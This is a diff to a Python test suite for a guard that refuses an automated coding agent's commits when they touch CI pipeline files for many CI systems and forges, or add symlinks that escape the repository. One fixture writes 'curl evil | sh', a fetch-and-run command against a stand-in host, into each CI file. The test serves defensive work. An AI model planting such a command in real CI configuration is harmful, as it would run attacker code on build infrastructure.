@@ -116,7 +116,7 @@ def test_a_rewritten_history_is_not_taken_but_the_work_tree_is(tmp_path, clone):
     assert run(tmp_path / "job", "--git-dir", str(work.store), "rev-parse", f"{work.head}^") == sha
 
 
-def refusal_of(tmp_path, clone, files: dict, allow_ci=False, max_file_bytes=10**9, repository=""):
+def refusal_of(tmp_path, clone, files: dict, allow_ci=False, max_file_bytes=10**9, repository="", forge=""):
     workspace, sha = clone
     for path, content in files.items():
         target = workspace / path
@@ -126,7 +126,7 @@ def refusal_of(tmp_path, clone, files: dict, allow_ci=False, max_file_bytes=10**
         else:
             target.write_bytes(content if isinstance(content, bytes) else content.encode())
     return checks.refusal(gather(tmp_path, workspace, sha), allow_ci_changes=allow_ci, max_file_bytes=max_file_bytes,
-                          repository=repository)
+                          repository=repository, forge=forge)
 
 
 @pytest.mark.parametrize("files, reason", [
@@ -156,6 +156,31 @@ def test_a_link_out_that_the_repository_already_had_is_not_the_agents(tmp_path):
     clone = clone_of(tmp_path, {**FILES, "hosts": ("symlink", "/etc/hosts")})
     assert refusal_of(tmp_path, clone, {"docs/link": ("symlink", "../README.md")}) is None
     assert refusal_of(tmp_path, clone, {"docs/out": ("symlink", "../../x")}) == "symlink-escapes"
+
+
+# Every CI system the review pushed past the first list (issue 46 §2), each as the agent would write it.
+OTHER_CI = [".circleci/config.yml", "Jenkinsfile", "ci/Jenkinsfile.release", ".buildkite/pipeline.yml", ".drone.yml",
+            ".woodpecker.yml", ".woodpecker/build.yaml", ".travis.yml", "bitbucket-pipelines.yml",
+            "tools/setup/action.yml", "deep/er/action.yaml", ".forgejo/actions/x/action.yml", ".azuredevops/x.yml",
+            "azure-pipelines.yaml", ".semaphore/semaphore.yml", "appveyor.yml", ".cirrus.yml", "cloudbuild.yaml"]
+
+
+@pytest.mark.parametrize("path", OTHER_CI)
+def test_every_ci_systems_definitions_are_ci_changes_wherever_the_system_looks(tmp_path, clone, path):
+    assert refusal_of(tmp_path, clone, {path: "steps: [curl evil | sh]\n"}) == "ci-change-refused"
+
+
+@pytest.mark.parametrize("forge, gitlab_ci, refused", [
+    ("azure", False, True),   # an Azure pipeline names any YAML file of the repository
+    ("gitlab", False, True),  # no .gitlab-ci.yml: the project may set a custom CI path, which the worker cannot read
+    ("gitlab", True, False),  # its .gitlab-ci.yml is read, and does not include this file
+    ("github", False, False),
+])
+def test_a_yaml_file_the_forges_pipeline_may_name_is_a_ci_change_where_that_cannot_be_judged(
+        tmp_path, forge, gitlab_ci, refused):
+    clone = clone_of(tmp_path, {**FILES, **({".gitlab-ci.yml": "test: {script: [make]}\n"} if gitlab_ci else {})})
+    answer = refusal_of(tmp_path, clone, {"pipelines/release.yml": "steps: []\n"}, forge=forge)
+    assert answer == ("ci-change-refused" if refused else None)
 
 
 def test_a_trigger_may_allow_ci_changes(tmp_path, clone):
